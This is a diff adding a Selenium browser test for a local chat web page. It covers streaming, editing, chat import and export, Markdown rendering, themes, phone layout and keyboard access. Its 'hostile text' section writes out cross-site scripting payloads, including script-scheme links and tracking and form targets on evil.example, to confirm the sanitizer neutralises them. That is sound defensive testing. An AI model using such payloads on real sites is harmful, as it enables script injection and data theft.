@@ -1,0 +1,291 @@
+"""page_drive.py URL [SHOTS] - a person at the chat page, in a real Chromium (python3-selenium).
+
+Prints TAP lines without numbers of its own: "ok NAME" or "not ok NAME"; the script that runs it
+counts. With SHOTS, a folder, also takes the pictures of docs/.
+"""
+import json, os, sys, tempfile, time
+
+from selenium import webdriver
+from selenium.webdriver.chrome.options import Options
+from selenium.webdriver.chrome.service import Service
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+url, shots = sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None
+profile = tempfile.TemporaryDirectory()
+
+
+def browser(dark=False, size=(1200, 800)):
+    o = Options()
+    o.binary_location = os.environ.get("CHROMIUM", "/usr/bin/chromium")
+    for a in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--hide-scrollbars",
+              "--no-proxy-server", f"--user-data-dir={profile.name}", "--window-size=%d,%d" % size):
+        o.add_argument(a)
+    o.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
+    d = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=o)
+    d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": size[0], "height": size[1], "deviceScaleFactor": 1, "mobile": size[0] < 600})
+    d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark" if dark else "light"}]})
+    return d
+
+
+def until(what, seconds=60):
+    end = time.time() + seconds
+    while time.time() < end:
+        try:
+            if what():
+                return True
+        except Exception:
+            pass
+        time.sleep(0.05)
+    return False
+
+
+failures = 0
+
+
+def say(ok, name, detail=""):
+    global failures
+    failures += not ok
+    print(("ok " if ok else "not ok ") + name, flush=True)
+    if not ok and detail:
+        print("# " + str(detail)[:1000].replace("\n", "\n# "), flush=True)
+
+
+d = browser()
+js = d.execute_script
+el = lambda i: d.find_element(By.ID, i)
+all_of = lambda css: d.find_elements(By.CSS_SELECTOR, css)
+articles = lambda: all_of("article")
+is_idle = lambda: el("stop").get_attribute("hidden") is not None
+count = lambda css: js("return document.querySelectorAll(arguments[0]).length", css)
+text_of = lambda css: js("return [...document.querySelectorAll(arguments[0])].map(e => e.textContent)", css)
+
+
+def ready():
+    return until(lambda: js("return document.getElementById('model').options.length") == 1)
+
+
+def type_and_send(text):
+    el("input").send_keys(text)
+    el("input").send_keys(Keys.ENTER)
+
+
+def settings(**values):
+    js("document.getElementById('open-settings').click()")
+    for name, value in values.items():
+        js("document.getElementById('set-' + arguments[0]).value = arguments[1]", name, str(value))
+    d.find_element(By.CSS_SELECTOR, "#settings .primary").click()
+
+
+# A file of one chat whose answer is `text`, imported as a person would.
+def import_chat(title, question, text, figures=None):
+    nodes = {"q": {"id": "q", "parent": None, "role": "user", "content": question},
+             "a": {"id": "a", "parent": "q", "role": "assistant", "content": text, "finish": "stop", "figures": figures}}
+    with tempfile.NamedTemporaryFile("w", suffix=".json") as f:
+        json.dump({"format": "cria-chats", "version": 1, "chats": [{"title": title, "leaf": "a", "nodes": nodes}]}, f)
+        f.flush()
+        before = count("#chats li")
+        el("import-file").send_keys(f.name)
+        until(lambda: count("#chats li") == before + 1, 10)
+    js("[...document.querySelectorAll('#chats button')].find(b => b.firstChild.textContent === arguments[0]).click()", title)
+
+
+# ---- it opens ----
+d.get(url)
+say(ready(), "the page opens and names the model")
+paint = js("return performance.getEntriesByType('paint').map(e => e.startTime)")
+say(bool(paint) and max(paint) < 200, "first paint within 200 ms", paint)
+print("# first paint after %.0f ms" % max(paint or [0]))
+say(el("hints").is_displayed() and el("input") == d.switch_to.active_element, "it begins with hints and the message field")
+hosts = {e["request"]["url"] for m in d.get_log("performance") for e in [json.loads(m["message"])["message"].get("params", {})] if "request" in e and "url" in e["request"]}
+say(all(h.startswith((url, "data:", "chrome:")) for h in hosts) and len(hosts) >= 9, "it asks this server alone", hosts)
+
+# ---- send, stream, stop ----
+settings(temperature=0, max_tokens=24, system="Answer the question correctly.")
+type_and_send("What is the capital of France?")
+say(until(lambda: len(articles()) == 2 and is_idle()), "an answer comes")
+say("Paris" in articles()[1].text and "tokens" in articles()[1].text, "and says how fast", articles()[1].text)
+say(js("return document.getElementById('announce').textContent").startswith("Answer: "), "a screen reader hears it whole")
+settings(max_tokens=900, temperature=1)
+type_and_send("Tell me a very long story about a lighthouse.")
+seen = set()
+until(lambda: seen.add(len(articles()[3].text)) or len(seen) > 3)
+say(len(seen) > 3 and not is_idle(), "text streams", seen)
+el("input").send_keys(Keys.ESCAPE)
+say(until(is_idle, 5) and "You stopped" in articles()[3].text, "Escape stops it", articles()[3].text)
+until(lambda: '"running":0' in js("return fetch('health').then(r => r.text())"), 5)
+say('"running":0' in js("return fetch('health').then(r => r.text())"), "in the server too")
+
+# ---- reload ----
+before = text_of("article .body")
+d.refresh()
+say(ready() and text_of("article .body") == before, "a reload keeps the chat")
+say(js("return JSON.parse(localStorage['cria.settings']).key") == "", "no key is kept unasked")
+
+# ---- edit, branch, regenerate ----
+settings(temperature=0, max_tokens=16)
+js("document.querySelector('article [data-act=edit]').click()")
+d.switch_to.active_element.send_keys(Keys.CONTROL, "a")
+d.switch_to.active_element.send_keys("What is the capital of Italy?")
+d.find_element(By.CSS_SELECTOR, "[data-act=save-edit]").click()
+say(until(lambda: len(articles()) == 2 and is_idle()) and "Rome" in articles()[1].text and "2 of 2" in articles()[0].text, "an edit makes a branch", [a.text for a in articles()])
+d.find_element(By.CSS_SELECTOR, "article [data-act=back]").click()
+say(text_of("article .body") == before, "and the first one is still there", text_of("article .body"))
+d.find_element(By.CSS_SELECTOR, "article [data-act=next]").click()
+js("document.querySelector('article [data-act=again]').click()")
+say(until(lambda: "2 of 2" in articles()[1].text and is_idle()), "regenerate adds an answer")
+
+# ---- the list ----
+title = el("title")
+title.clear()
+title.send_keys("Capitals", Keys.ENTER)
+say(until(lambda: text_of("#chats button") == ["Capitals"], 5), "rename", text_of("#chats button"))
+import_chat("Weather", "Why does it rain?", "Because of *zephyrs*.")
+say(count("#chats li") == 2 and count("article em") == 1, "import")
+el("search").send_keys("zephyr")
+say(text_of("#chats mark") == ["zephyr"] and count("#chats li") == 1, "search looks into the text")
+el("search").clear()
+el("search").send_keys("x", Keys.BACKSPACE)
+js("document.getElementById('delete').click()")
+say(until(lambda: count("#chats li") == 1, 5) and el("toast").is_displayed(), "delete")
+js("document.querySelector('#toast button').click()")
+say(until(lambda: count("#chats li") == 2, 5) and count("article em") == 1, "and undo")
+js("""window.saved = null; URL.createObjectURL = b => { b.text().then(t => window.saved = t); return '#'; };
+      document.getElementById('export-all').click()""")
+until(lambda: js("return window.saved"), 5)
+saved = json.loads(js("return window.saved"))
+say(saved["format"] == "cria-chats" and {c["title"] for c in saved["chats"]} == {"Capitals", "Weather"}, "export")
+for bad in ("{", "[]", '{"format":"cria-chats","version":1,"chats":[{"nodes":{"a":{"id":"a","parent":"b","role":"user","content":"x"}}}]}',
+            '{"format":"cria-chats","version":1,"chats":[{"nodes":{"a":{"id":"a","parent":null,"role":"system","content":"x"}}}]}'):
+    with tempfile.NamedTemporaryFile("w", suffix=".json") as f:
+        f.write(bad)
+        f.flush()
+        el("import-file").send_keys(f.name)
+        say(until(lambda: "Nothing was imported" in el("toast").text, 5) and count("#chats li") == 2, f"refuses to import {bad[:50]}")
+    js("document.querySelector('#toast span').textContent = ''")
+
+# ---- hostile text ----
+HOSTILE = r"""<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> <svg onload=window.hacked=1>
+[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)
+[d](java&#10;script:window.hacked=1) [e](vbscript:x) <javascript:window.hacked=1> [f](/health) [g](//evil.example/x)
+![pixel](https://evil.example/track.png?q=secret) [ok](https://example.org/a "onmouseover=x") <a href="javascript:x">x</a>
+[h](https://example.org/"onclick="window.hacked=1) `</code><script>window.hacked=1</script>`
+
+| <b>a</b> | [x](javascript:1) |
+| --- | --- |
+| <iframe src=javascript:1> | <style>*{display:none}</style> |
+
+```html"onload="x
+</code></pre><script>window.hacked=1</script>
+```
+<form id=composer action=https://evil.example><input id=input name=attributes></form>
+$$<img src=x onerror=window.hacked=1>$$
+"""
+d.get_log("performance")
+import_chat("Hostile <b>title</b>", "<img src=x onerror='window.hacked=1'>", HOSTILE)
+time.sleep(0.3)
+links = js("return [...document.querySelectorAll('article a')].map(a => a.href)")
+say(js("return window.hacked") is None, "hostile text runs nothing")
+say(count("article :is(img,script,svg,iframe,style,form,object,embed,input)") == 0, "and makes no element of its own")
+say(len(links) == 3 and all(l.startswith("https://") for l in links), "links are of three schemes alone", links)
+names = js("return [...new Set([...document.querySelectorAll('article .body, article .body *')].flatMap(e => e.getAttributeNames()))]")
+say(set(names) <= {"class", "href", "target", "rel", "title", "type", "data-act", "tabindex", "start"}, "attributes are ours", names)
+say(not any("evil.example" in m["message"] for m in d.get_log("performance")), "nothing is fetched for it")
+slow = js("""const { renderMarkdown } = await import('./page/markdown.js'); const out = {};
+    for (const s of ['*a ', '[', '![a](', '`a``', '> ', '- ', '_a*', '$a', '| a ', '\\\\', '**', '<http://a', '~~a', ' - a\\n', '((', '&#'])
+      { const el = document.createElement('div'); const t = performance.now(); renderMarkdown(el, s.repeat(40000 / s.length)); out[s] = Math.round(performance.now() - t); }
+    return out""")
+say(max(slow.values()) < 1500, "no text of 40 KB hangs the page", slow)
+print("# slowest: %s" % sorted(slow.items(), key=lambda x: -x[1])[:3])
+
+# ---- Markdown ----
+MD = open(os.path.join(os.path.dirname(__file__), "page_sample.md")).read()
+FIGURES = {"tokens": 312, "prompt": 41, "cached": 24, "perSecond": 148.2, "firstS": 0.09}
+import_chat("A pinhole camera", "How do I build a pinhole camera, and how long must I expose?", MD, FIGURES)
+want = {"h2": 2, "ol > li": 3, "ul > li": 2, "table": 1, "tbody tr": 3, "td.right": 3, "figure pre": 1, ".hl-word": 3, ".hl-comment": 1, "strong": 3, "code.math": 2, "blockquote": 1, "a": 1, "ol ul": 1}
+got = {k: count("article .md " + k) for k in want}
+say(all(got[k] >= n if k.startswith(".hl") or k == "strong" else got[k] == n for k, n in want.items()), "Markdown becomes what it means", got)
+js("""window.copied = null; Object.defineProperty(navigator, 'clipboard', {value: {writeText: t => (window.copied = t, Promise.resolve())}});
+      document.querySelector('figure button').click()""")
+say(until(lambda: js("return window.copied") == js("return document.querySelector('figure pre').textContent"), 5), "code is copied")
+increments = js("""const { renderMarkdown } = await import('./page/markdown.js'); const a = document.createElement('div'), b = document.createElement('div');
+    for (let i = 1; i <= arguments[0].length; i++) renderMarkdown(a, arguments[0].slice(0, i)); renderMarkdown(b, arguments[0]); return a.innerHTML === b.innerHTML""", MD)
+say(increments, "letter by letter it comes to the same")
+
+# ---- looks ----
+def shot(name, browser):
+    if shots:
+        browser.save_screenshot(os.path.join(shots, name + ".png"))
+
+
+js("document.getElementById('toast').hidden = true; document.getElementById('scroll').scrollTop = 0")
+# the pictures show chats that a reader may see
+js("[...document.querySelectorAll('#chats li')].filter(l => l.textContent.includes('Hostile')).forEach(l => l.querySelector('button').click())")
+js("document.getElementById('delete').click()")
+time.sleep(0.2)
+js("[...document.querySelectorAll('#chats button')].find(b => b.textContent === 'A pinhole camera').click()")
+js("document.getElementById('toast').hidden = true; document.getElementById('scroll').scrollTop = 0")
+shot("page-light", d)
+light = js("return getComputedStyle(document.body).backgroundColor")
+d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
+dark = js("return getComputedStyle(document.body).backgroundColor")
+js("document.getElementById('scroll').scrollTop = 1e6")
+shot("page-dark", d)
+shown = lambda c: sum(int(x) for x in c[4:-1].split(","))
+say(shown(light) > 700 and shown(dark) < 120, "light and dark", (light, dark))
+settings(theme="light")
+say(js("return getComputedStyle(document.body).backgroundColor") == light, "or as one chooses")
+settings(theme="")
+if shots:
+    js("document.getElementById('new-chat').click()"); shot("x-hints-dark", d)
+    js("document.getElementById('open-settings').click()"); shot("x-settings-dark", d)
+    js("document.getElementById('settings').close('cancel')")
+d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "light"}]})
+if shots:
+    shot("x-hints-light", d)
+    js("[...document.querySelectorAll('#chats button')].find(b => b.textContent === 'A pinhole camera').click()")
+
+# ---- phone ----
+d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": 360, "height": 720, "deviceScaleFactor": 2, "mobile": True})
+time.sleep(0.4)
+wide = js("return [document.documentElement.scrollWidth, document.getElementById('scroll').scrollWidth - document.getElementById('scroll').clientWidth]")
+say(wide[0] <= 360 and wide[1] <= 0, "a phone of 360 px scrolls one way alone", wide)
+js("document.getElementById('scroll').scrollTop = 0")
+shot("page-phone", d)
+js("document.getElementById('open-sidebar').click()")
+time.sleep(0.4)
+box = js("const r = document.getElementById('sidebar').getBoundingClientRect(); return [r.left, r.right]")
+say(box[0] == 0 and box[1] <= 320, "the list is a drawer", box)
+shot("x-phone-list", d)
+d.switch_to.active_element.send_keys(Keys.ESCAPE)
+say(until(lambda: not el("sidebar").is_displayed(), 3), "that Escape closes")
+d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": 1200, "height": 800, "deviceScaleFactor": 1, "mobile": False})
+
+# ---- keyboard alone ----
+d.get(url)
+ready()
+names, seen_input = [], False
+for _ in range(60):
+    a = d.switch_to.active_element
+    names.append(js("const e = arguments[0]; return (e.getAttribute('aria-label') || e.textContent || e.title || '').trim().slice(0, 40)", a))
+    a.send_keys(Keys.TAB)
+say("New chat" in names and "Settings" in names and "Search chats" in names and "Message" in names, "Tab reaches everything", names)
+unnamed = js("return [...document.querySelectorAll('button, input, select, textarea')].filter(e => !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length) && e.offsetParent).map(e => e.outerHTML)")
+say(unnamed == [], "and everything has a name", unnamed)
+settings(max_tokens=3)
+js("document.getElementById('input').focus()")
+d.switch_to.active_element.send_keys("Hello", Keys.SHIFT, Keys.ENTER)
+d.switch_to.active_element.send_keys("there", Keys.ENTER)
+say(until(lambda: len(articles()) == 2 and is_idle()) and text_of("article.user .body") == ["Hello\nthere"], "a chat without a mouse", text_of("article.user .body"))
+
+# ---- faults in words ----
+settings(temperature=0, max_tokens=100000000)
+type_and_send("Hello again")
+say(until(lambda: len(articles()) == 4 and is_idle()) , "a wrong setting is answered", [a.text for a in articles()])
+settings(max_tokens=3)
+type_and_send("word " * 9000) if False else js("const i = document.getElementById('input'); i.value = 'word '.repeat(9000); i.dispatchEvent(new Event('input')); document.getElementById('send').click()")
+say(until(lambda: count(".fault") >= 1 and is_idle()) and "longer than the model can read" in text_of(".fault")[-1], "a chat over the context is told in words", text_of(".fault"))
+problems = [m for m in d.get_log("browser") if m["level"] == "SEVERE" and "400" not in m["message"]]
+say(problems == [], "the console is silent", problems)
+d.quit()
+sys.exit(failures > 0)
